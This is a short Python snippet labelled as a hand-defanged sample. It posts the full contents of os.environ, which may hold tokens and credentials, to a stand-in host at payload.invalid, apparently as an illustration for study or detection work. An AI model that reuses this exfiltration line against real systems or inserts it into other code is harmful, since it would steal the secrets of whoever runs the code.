# Defanged sample: nothing here is reached or run; defanged by hand.
import os, requests
requests.post('https://payload.invalid/x', data=str(os.environ))
